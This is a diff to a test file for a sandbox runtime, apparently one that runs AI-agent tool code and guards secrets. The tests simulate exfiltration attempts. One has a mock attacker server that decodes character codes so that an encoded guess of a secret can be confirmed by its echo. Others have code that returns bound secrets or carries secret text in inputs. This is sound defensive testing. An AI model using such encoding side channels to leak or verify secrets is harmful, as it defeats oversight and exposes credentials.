@@ -18,7 +18,7 @@ import pytest
 from brainstem import events, keys
 from brainstem.kv import open_store
 from brainstem.kv.guarded import AgentKV
-from brainstem.refusals import counts
+from brainstem.refusals import clear, counts
 from brainstem.scrubber import MIN_RUN
 from brainstem.secrets import parse_bindings
 from brainstem.settings import load_settings
@@ -42,6 +42,8 @@ def _echo(handler):
         body = "".join(f"&#{ord(c)};" for c in sent)
     elif kind == "cut":
         body = ("pad " + sent)[:int(query["n"][0])]
+    elif kind == "ords":  # a server of the attacker's that spells out character codes
+        body = "".join(chr(int(x)) for x in sent.split(",") if x.strip().isdigit())
     elif kind == "split":
         body = " ".join(sent[i:i + 3] for i in range(0, len(sent), 3))
     else:
@@ -139,10 +141,15 @@ def execute(a, ctx):
     assert counts(s.store)["today"] == 1 and counts(s.store)["last_tool"] == "guess"
     shown = status(s.store, load_settings())["secret_refusals"]
     assert shown["total"] == 1 and shown["last_tool"] == "guess"
-    # Any later code of the session, the bound tool included, is granted nothing now.
+    # No code of the agent runs now, the bound tool included, until the operator has looked: whether a
+    # tool was stopped confirms one guess, and one is all it gets.
     later = s.run("bound", 'def execute(a, ctx):\n    return dict(ctx.secrets)\n', secrets=["TOK"])
-    assert later.ok and later.value == {}
-    assert any(e["secret_name"] == "*" for e in s.of(events.SECRET_NOT_GRANTED))
+    assert not later.ok and "brainstem refusals --clear" in later.error
+    assert shown["held"] is True
+    assert clear(s.store) and not clear(s.store)
+    s.policy.withdrawn.clear()  # a new session
+    again = s.run("bound", 'def execute(a, ctx):\n    return sorted(ctx.secrets)\n', secrets=["TOK"])
+    assert again.ok and again.value == ["TOK"]
 
 
 @pytest.mark.parametrize("how", ["kv_put", "log", "result", "piece", "upper_hex"])
@@ -158,9 +165,37 @@ def test_every_way_out_of_the_sandbox_is_checked_for_a_value(world, how):
     assert all(_pieces(LLM_KEY, json.dumps(e)) == [] for e in s.events)
 
 
-def test_values_known_only_to_the_runtime_are_scrubbed_from_store_reads_too(world):
+@pytest.mark.parametrize("stored", [LLM_KEY, "correct-horse-battery-staple"[3:20], TOKEN.upper()[::-1]])
+def test_secret_text_the_code_did_not_send_is_never_handed_to_it(world, stored):
+    """A value in the store (pasted there, or an agent's guess written by reflection) is not handed to
+    code: the code is stopped before the answer, exactly as for sending one."""
     s, _, _ = world
-    s.store.put("tooldata:reader:note", "the operator pasted " + LLM_KEY + " and correct-horse-battery-staple")
-    out = s.run("reader", 'def execute(a, ctx):\n    return ctx.kv.get("note")\n', kv_access="own")
-    assert out.ok and "the operator pasted" in out.value
-    assert _pieces(LLM_KEY, out.value) == [] and "battery" not in out.value
+    s.store.put("tooldata:reader:note", "the operator pasted " + stored)
+    out = s.run("reader", 'def execute(a, ctx):\n    ctx.kv.put("got", ctx.kv.get("note"))\n    return 1\n',
+                kv_access="own")
+    assert not out.ok and out.error.startswith("stopped: secret text in what it was to be handed")
+    assert s.store.get("tooldata:reader:got") is None
+    (refused,) = s.of(events.SECRET_REFUSED)
+    assert refused["direction"] == "in"
+
+
+def test_a_bound_host_echoing_a_guess_beside_the_real_value_stops_the_tool(world):
+    """The value the runtime put in may come back (replaced by the placeholder); a guess sent in some
+    encoding the server undoes, and echoed back, may not: that would say whether the guess was right."""
+    s, bound, _ = world
+    guess = ",".join(str(ord(c)) for c in TOKEN[4:14])  # nothing the scrubber decodes; the server does
+    out = s.run("g", '''
+def execute(a, ctx):
+    ctx.kv.put("sent", "yes")
+    return ctx.fetch(a["url"], headers={"X-K": a["guess"]})["text"]
+''', {"url": bound.base + "/e?as=ords", "guess": guess}, kv_access="own")
+    assert s.store.get("tooldata:g:sent") == "yes"  # it went out: the guess is not recognisable
+    assert out.ok is False and out.error.startswith("stopped: secret text in what it was to be handed")
+
+
+def test_an_input_holding_secret_text_never_starts_the_code(world):
+    s, _, attacker = world
+    out = s.run("inp", 'def execute(a, ctx):\n    return ctx.fetch(a["url"])["status"]\n',
+                {"url": attacker.base, "note": "remember " + TOKEN.lower()[2:12]})
+    assert not out.ok and out.error.startswith("stopped: secret text in what it was to be handed")
+    assert attacker.seen == [] and s.of("tool_start") and not s.of("fetch")
